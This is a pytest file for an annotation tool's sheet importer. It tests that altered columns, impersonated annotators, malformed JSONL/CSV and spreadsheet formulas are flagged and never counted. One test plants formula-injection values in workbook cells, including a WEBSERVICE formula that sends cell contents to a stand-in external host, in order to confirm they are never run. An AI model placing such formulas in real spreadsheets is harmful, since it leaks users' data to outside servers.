"""Sheets that come back other than they went out: all of it is listed, none of it counts or is lost."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from dataclasses import replace
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from lexwarrant.annotation.importing import import_sheet
from lexwarrant.annotation.project import Project, ProjectInfo
from lexwarrant.annotation.rows import SHOWN, SheetRow, columns, from_cells, to_cells
from lexwarrant.annotation.sheets import FORMATS, read_sheet, write_sheet
from lexwarrant.annotation.stages import Stage
from lexwarrant.annotation.workflow import start
from lexwarrant.evaluation.warrant.pilot import load_pilot
from lexwarrant.records.errors import DataError

FILLED: dict[str, Any] = {"values": {"claim": "no"}, "minutes": "1", "done_on": "2026-11-30"}


@pytest.fixture
def project(tmp_path: Path) -> Project:
    pilot = load_pilot()
    cards = [c for c in pilot.outputs if c.system == pilot.outputs[0].system]
    info = ProjectInfo(("ann", "bob"), 1.0, Stage.EXTRACT, None, True)
    return start(tmp_path / "p", info, pilot.items, cards)


def handed(project: Project, name: str = "ann") -> list[SheetRow]:
    return [r for r in project.rows(Stage.EXTRACT) if r.annotator == name]


def send(project: Project, rows: list[SheetRow], form: str = ".csv") -> Path:
    path = project.folder.parent / f"sent{form}"
    write_sheet(path, [replace(r, **FILLED) for r in rows])
    return path


CHANGED = {
    "passage": lambda r: replace(r, passage=r.passage + "!"),
    "answer": lambda r: replace(r, answer=r.answer.replace("the", "a")),
    "question": lambda r: replace(r, question="What?"),
    "setting": lambda r: replace(r, setting="jurisdiction: uk"),
    "provision": lambda r: replace(r, provision="It is so."),
    "claim_text": lambda r: replace(r, claim_text="It is so."),
    "authority": lambda r: replace(r, authority="eu/1/art/1"),
    "item": lambda r: replace(r, item="another"),
    "context": lambda r: replace(r, context="other"),
    "start": lambda r: replace(r, start="7"),
    "end": lambda r: replace(r, end="7"),
    "ticket": lambda r: replace(r, ticket="0" * 16),
    "annotator": lambda r: replace(r, annotator="bob"),
    "annotator unknown": lambda r: replace(r, annotator="eve"),
    "stage": lambda r: replace(r, stage=Stage.POLICY, values={"acts": "answer", "risk": "high"}),
    "row": lambda r: replace(r, row=r.row + "0"),
    "machine": lambda r: replace(r, prefilled={"claim": "no", "consequential": "no"}),
}  # fmt: skip


def test_every_shown_column_is_tried() -> None:
    assert set(SHOWN) <= set(CHANGED)


@pytest.mark.parametrize("form", FORMATS)
@pytest.mark.parametrize("name", CHANGED)
def test_a_shown_column_that_was_changed(project: Project, name: str, form: str) -> None:
    rows = handed(project)
    stage = name == "stage"
    sent = [CHANGED[name](replace(rows[0], **FILLED)), *(replace(r, **FILLED) for r in rows[1:])]
    if stage:
        sent = sent[:1]
    path = project.folder.parent / f"sent{form}"
    write_sheet(path, sent)
    found = import_sheet(project, path)
    assert found.count("tampered") == 1, found.problems
    assert found.accepted == len(sent) - 1
    (kept,) = project.tampered(Stage.EXTRACT)
    assert kept.cells == to_cells(sent[0])
    assert project.problems(Stage.EXTRACT) == []
    assert kept.why
    assert {r.annotator for r in project.labels(Stage.EXTRACT)} <= {"ann"}


def test_a_whole_sheet_under_anothers_name(project: Project) -> None:
    """Bob's labels cannot be made from Ann's sheet."""
    rows = [replace(r, annotator="bob") for r in handed(project)]
    found = import_sheet(project, send(project, rows))
    assert found.accepted == 0
    assert found.count("tampered") == len(rows)
    assert "'ann'" in found.problems[0].why


@pytest.mark.parametrize(
    "change",
    [
        lambda t: t.replace("\n", "\r\n"),
        lambda t: t.replace("\r\n", "\n"),
        lambda t: t + "  ",
        lambda t: t.replace("\n", " \n"),
    ],
)
def test_line_ends_and_spaces_before_them_are_a_spreadsheets_own(
    project: Project, change: Callable[[str], str]
) -> None:
    rows = [replace(r, answer=change(r.answer), setting=change(r.setting)) for r in handed(project)]
    found = import_sheet(project, send(project, rows))
    assert found.problems == ()
    assert found.accepted == len(rows)


def test_a_column_that_was_taken_out_is_named(project: Project) -> None:
    path = send(project, handed(project), ".jsonl")
    rows = [json.loads(line) for line in path.read_text("utf-8").splitlines()]
    path.write_text(
        "".join(json.dumps({k: v for k, v in r.items() if k != "passage"}) + "\n" for r in rows)
    )
    found = import_sheet(project, path)
    assert found.accepted == 0
    assert {p.why.partition(";")[0] for p in found.problems} == {"the column passage was taken out"}


# Workbooks --------------------------------------------------------------------------------------


def workbook(project: Project, spoil: Callable[[Any, Any, list[str]], None]) -> Path:
    openpyxl = pytest.importorskip("openpyxl")
    path = send(project, handed(project), ".xlsx")
    book = openpyxl.load_workbook(path)
    spoil(book, book.active, columns(Stage.EXTRACT))
    book.save(path)
    return path


@pytest.mark.parametrize(
    ("column", "formula"),
    [
        ("minutes", "=1+1"),
        ("done_on", "=TODAY()"),
        ("claim", '=IF(1,"yes","no")'),
        ("rationale", '=HYPERLINK("https://x.example","x")'),
        ("rationale", '=WEBSERVICE("https://x.example/"&A1)'),
        ("passage", "=A1"),
        ("row", '="a"'),
    ],
)
def test_a_formula_is_never_run(project: Project, column: str, formula: str) -> None:
    def spoil(_: Any, sheet: Any, names: list[str]) -> None:
        sheet.cell(2, names.index(column) + 1).value = formula
        sheet.cell(2, names.index(column) + 1).data_type = "f"

    path = workbook(project, spoil)
    found = import_sheet(project, path)
    (problem,) = found.problems
    assert problem.kind == "malformed"
    assert problem.line == 2
    assert column in problem.why
    assert "formula" in problem.why
    assert problem.cells[column].startswith("=")
    assert found.accepted == len(handed(project)) - 1


def test_an_array_formula_is_none_either(project: Project) -> None:
    formulas = pytest.importorskip("openpyxl.worksheet.formula")

    def spoil(_: Any, sheet: Any, names: list[str]) -> None:
        at = sheet.cell(2, names.index("minutes") + 1)
        sheet[at.coordinate] = formulas.ArrayFormula(at.coordinate, "=SUM(A1:A2)")

    (problem,) = import_sheet(project, workbook(project, spoil)).problems
    assert "minutes" in problem.why


def test_text_that_looks_like_a_formula_is_text(project: Project) -> None:
    rows = [replace(r, **{**FILLED, "rationale": "=1+1"}) for r in handed(project)]
    for form in FORMATS:
        path = project.folder.parent / f"sent{form}"
        write_sheet(path, rows)
        assert import_sheet(project, path).problems == ()
    assert {r.rationale for r in project.labels(Stage.EXTRACT)} == {"=1+1"}


def test_sheets_added_to_a_workbook_are_listed(project: Project) -> None:
    def spoil(book: Any, _: Any, __: list[str]) -> None:
        notes = book.create_sheet("notes")
        notes.append(["I could not decide row 3"])
        book.active = 1

    found = import_sheet(project, workbook(project, spoil))
    assert found.accepted == len(handed(project))
    (problem,) = found.problems
    assert "could not decide row 3" in problem.cells["unreadable"]


def test_cells_beside_the_table_are_listed(project: Project) -> None:
    def spoil(_: Any, sheet: Any, names: list[str]) -> None:
        sheet.cell(2, len(names) + 3).value = "a remark in the margin"

    (problem,) = import_sheet(project, workbook(project, spoil)).problems
    assert "margin" in problem.cells["unreadable"]


def test_numbers_days_and_booleans_of_a_spreadsheet(project: Project) -> None:
    def spoil(_: Any, sheet: Any, names: list[str]) -> None:
        sheet.cell(2, names.index("minutes") + 1).value = 2.5
        sheet.cell(3, names.index("done_on") + 1).value = datetime(2026, 11, 30)
        sheet.cell(4, names.index("claim") + 1).value = True

    found = import_sheet(project, workbook(project, spoil))
    (problem,) = found.problems
    assert "claim: 'True'" in problem.why


def test_a_column_that_stands_twice(project: Project) -> None:
    path = workbook(project, lambda b, s, n: s.cell(1, len(n) + 1, "minutes"))
    with pytest.raises(DataError, match="'minutes' stands twice"):
        import_sheet(project, path)


# CSV and JSON Lines -----------------------------------------------------------------------------


def as_csv(project: Project, delimiter: str = ",") -> str:
    text = io.StringIO(newline="")
    writer = csv.writer(text, delimiter=delimiter)
    rows = [to_cells(replace(r, **FILLED)) for r in handed(project)]
    writer.writerow(rows[0])
    writer.writerows(r.values() for r in rows)
    return text.getvalue()


@pytest.mark.parametrize("bom", [b"", b"\xef\xbb\xbf"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("end", ["\r\n", "\n"])
def test_csv_as_spreadsheets_write_it(
    project: Project, bom: bytes, delimiter: str, end: str
) -> None:
    path = project.folder.parent / "sent.CSV"
    path.write_bytes(bom + as_csv(project, delimiter).replace("\r\n", end).encode())
    found = import_sheet(project, path)
    assert found.problems == ()
    assert found.accepted == len(handed(project))


@pytest.mark.parametrize(
    ("body", "why"),
    [
        (lambda t: t.encode("utf-16"), "not UTF-8 at byte 0"),
        (lambda t: t.encode() + b"\xff\xfe", "not UTF-8 at byte"),
        (lambda t: t.replace("minutes", "claim", 1).encode(), "'claim' stands twice"),
    ],
)
def test_csv_that_cannot_be_read_is_refused_whole(
    project: Project, body: Callable[[str], bytes], why: str
) -> None:
    path = project.folder.parent / "sent.csv"
    path.write_bytes(body(as_csv(project)))
    with pytest.raises(DataError, match=why):
        import_sheet(project, path)
    assert project.arrived(Stage.EXTRACT) == []


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("[]", "cannot be read"),
        ("{", "cannot be read"),
        ('{"row": "a", "row": "b"}', "cannot be read"),
        ("{}", "stage: ''"),
        ('{"stage": "dance"}', "stage: 'dance'"),
        ('{"stage": "extract", "row": null}', "not handed out"),
        ('{"stage": "extract", "remark": "x"}', "unknown column"),
        ("[" * 5_000, "cannot be read"),
        ('{"stage": "extract", "row": {"a": [1]}}', "not handed out"),
    ],
)
def test_lines_that_are_no_rows(project: Project, line: str, why: str) -> None:
    path = project.folder.parent / "sent.jsonl"
    path.write_text("\ufeff" + line + "\r\n", encoding="utf-8")
    (problem,) = import_sheet(project, path).problems
    assert problem.kind == "malformed"
    assert problem.line == 1
    assert why in problem.why
    assert problem.cells or line == "{}"


@pytest.mark.parametrize(
    ("more", "why"),
    [
        ({"done_on": "2026-02-30"}, "done_on"),
        ({"done_on": "30/11/2026"}, "done_on"),
        ({"done_on": "2026-11-30T10:00"}, "done_on"),
        ({"minutes": "-3"}, "minutes"),
        ({"minutes": "nan"}, "minutes"),
        ({"minutes": "1e400"}, "minutes"),
        ({"minutes": "00:05:00"}, "minutes"),
        ({"values": {"claim": "YES"}}, "claim"),
        ({"values": {"claim": "yes;no"}}, "claim"),
        ({"values": {"claim": "yes", "category": "dance"}}, "category"),
        ({"values": {"claim": "yes", "words": "x" * 100_000}}, "words"),
    ],
)
def test_entries_that_may_not_stand(project: Project, more: dict[str, Any], why: str) -> None:
    row = replace(handed(project)[0], **{**FILLED, **more})
    path = project.folder.parent / "sent.jsonl"
    write_sheet(path, [row])
    (problem,) = import_sheet(project, path).problems
    assert problem.kind == "malformed"
    assert problem.why.startswith(why)


def test_an_empty_file_brings_nothing(project: Project) -> None:
    for form in (".csv", ".jsonl"):
        path = project.folder.parent / f"none{form}"
        path.write_bytes(b"")
        assert import_sheet(project, path).accepted == 0


def test_tickets_differ_and_come_back(project: Project) -> None:
    rows = project.rows(Stage.EXTRACT)
    assert len({r.ticket for r in rows}) == len(rows)
    for form in FORMATS:
        path = project.stage_folder(Stage.EXTRACT) / f"ann{form}"
        assert [from_cells(c) for _, c in read_sheet(path)] == handed(project)
